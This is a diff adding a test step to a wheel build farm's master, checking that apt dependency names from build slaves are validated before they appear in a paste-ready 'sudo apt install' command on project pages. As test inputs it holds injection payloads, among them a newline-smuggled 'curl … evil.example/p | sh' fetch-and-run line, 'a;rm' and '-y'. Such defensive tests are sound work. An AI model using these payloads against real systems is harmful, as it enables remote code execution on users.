@@ -7,7 +7,7 @@
 
 import { assert, assertEquals } from "../assert.ts";
 import { Duration } from "../../shared/duration.ts";
-import { encode } from "../../shared/cbor.ts";
+import { type CborValue, encode } from "../../shared/cbor.ts";
 import { Dealer, Request } from "../../shared/zmq/mod.ts";
 import { eventually, startFarm } from "../farm.ts";
 import { TestSlave } from "../fixtures/test_slave.ts";
@@ -122,6 +122,43 @@ Deno.test("master: bad input from slaves is refused and the farm carries on", as
         const names = [...Deno.readDirSync(dir)].map((e) => e.name);
         assert(!names.includes("evil.whl"), `${dir} holds evil.whl`);
       }
+    },
+  );
+
+  await t.step(
+    "dependencies that are no Debian package names get DIE; the page offers only names",
+    async () => {
+      // the project page offers them as a command to paste: `sudo apt install …`
+      const deps = (apt: string[]) => {
+        const w = makeWheel("apt-names", "1.0");
+        return [w, [[w.filename, w.bytes.length, w.sha256, ...w.tags, { apt }]]] as const;
+      };
+      await pypi.release("apt-names", "1.0");
+      await master.waitForFile("project/apt-names/json/index.json", '"1.0"');
+      for (const [i, evil] of ["x\ncurl -s http://evil.example/p | sh", "a;rm", "-y"].entries()) {
+        await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", `apt-${i}`);
+        assertEquals((await s.hello()).msg, "ACK");
+        assertEquals(await s.request("IDLE"), { msg: "BUILD", data: ["apt-names", "1.0"] });
+        const [, files] = deps(["libc6", evil]);
+        // encoded by hand: our own encoder refuses them before they are sent
+        const built = encode(["BUILT", [true, Duration.ZERO, "", files as unknown as CborValue]]);
+        assertEquals((await s.request(built)).msg, "DIE");
+        await master.waitForLog(/expected Debian package names, not/);
+      }
+      await using s = new TestSlave(master.slaveQueue, master.fileQueue, "cp311", "apt-good");
+      assertEquals((await s.hello()).msg, "ACK");
+      assertEquals(await s.request("IDLE"), { msg: "BUILD", data: ["apt-names", "1.0"] });
+      const [wheel, files] = deps(["libc6", "libssl3:armhf", "libstdc++6"]);
+      let reply = await s.request("BUILT", [true, Duration.ZERO, "", files]);
+      assertEquals(reply, { msg: "SEND", data: wheel.filename });
+      await s.transfer(wheel.bytes);
+      reply = await s.request("SENT");
+      assertEquals(reply, { msg: "DONE" });
+      const page = await master.waitForFile("project/apt-names/index.html", "sudo apt install");
+      assert(
+        page.includes("<pre>sudo apt install libc6 libssl3:armhf libstdc++6</pre>"),
+        page.match(/.*apt install.*/)?.[0],
+      );
     },
   );
 
